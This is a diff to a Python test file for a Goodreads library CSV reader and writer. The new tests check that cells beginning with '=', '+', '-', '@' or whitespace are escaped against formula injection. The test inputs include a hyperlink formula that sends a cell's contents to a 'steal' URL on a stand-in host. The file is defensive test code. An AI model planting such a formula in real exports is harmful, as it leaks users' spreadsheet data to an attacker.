@@ -1,6 +1,7 @@
 """Reading and writing Goodreads library exports, without a database."""
 
 import csv
+import dataclasses
 import datetime
 import io
 from collections import Counter
@@ -171,7 +172,6 @@ def test_bad_rows_are_reported_one_problem_at_a_time_and_left_out():
         "row 4: Number of Pages many is not a whole number",
         "row 4: Date Read 2019/13/45 is not a date (YYYY/MM/DD)",
         "row 5: no Exclusive Shelf",
-        'row 5: ISBN ="12345" is not an ISBN of 10 characters',
         "row 8: 2 fields where the header has 24",
     ]
     assert [row.row for row in library.rows] == [6, 7]
@@ -278,3 +278,71 @@ def test_length_limits_are_the_database_ones():
         "shelf": ReaderShelf._meta.get_field("name").max_length,
         "goodreads_id": Book._meta.get_field("goodreads_id").max_length,
     } == MAX_LENGTHS
+
+
+# Cells a spreadsheet would run as formulas.
+
+FORMULAS = [
+    '=HYPERLINK("http://x/steal?d="&A1,"Click me")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_cell_that_starts_a_formula_is_written_as_text_and_read_back_unchanged(text):
+    row = LibraryRow(
+        goodreads_id="7",
+        title="A title",
+        series="",
+        author="Tamsyn Muir",
+        exclusive_shelf="read",
+        review=text.replace("\r", ""),
+        private_notes=text,
+        publisher=text.strip(),
+    )
+    written_text = "".join(write_library([row]))
+    (written,) = csv.DictReader(io.StringIO(written_text, newline=""))
+
+    for column in ("My Review", "Private Notes", "Publisher"):
+        assert written[column].startswith("'"), column
+        assert written[column][1:2] in {"=", "+", "-", "@", "\t", "\r"}, column
+    # Goodreads' own quoting of ISBNs is left as it is.
+    assert (written["ISBN"], written["ISBN13"]) == ('=""', '=""')
+    (again,) = parse_library(written_text).rows
+    assert again.review == row.review
+    assert again.private_notes == row.private_notes
+    assert again.publisher == row.publisher
+
+
+def test_a_formula_title_and_author_go_round_unchanged():
+    row = LibraryRow(
+        goodreads_id="7",
+        title=FORMULAS[0],
+        series="Evil, #1",
+        author="@Mallory",
+        additional_authors=("-Trudy",),
+        exclusive_shelf="=shelf",
+        shelves=("+tag",),
+        isbn13="9780306406157",
+    )
+    text = "".join(write_library([row]))
+    (written,) = csv.DictReader(io.StringIO(text, newline=""))
+    assert written["Title"] == f"'{FORMULAS[0]} (Evil, #1)"
+    assert (written["Author"], written["Author l-f"]) == ("'@Mallory", "'@Mallory, @Mallory")
+    assert written["Additional Authors"] == "'-Trudy"
+    assert (written["Exclusive Shelf"], written["Bookshelves"]) == ("'=shelf", "'=shelf, +tag")
+    assert written["ISBN13"] == '="9780306406157"'
+    assert parse_library(text).rows == (dataclasses.replace(row, row=2),)
+
+
+def test_a_quote_before_ordinary_text_is_the_text_s_own():
+    row = LibraryRow(
+        goodreads_id="7", title="'Tis the Season", series="", author="A", exclusive_shelf="read"
+    )
+    text = "".join(write_library([row]))
+    assert "'Tis the Season" in text
+    assert parse_library(text).rows[0].title == "'Tis the Season"
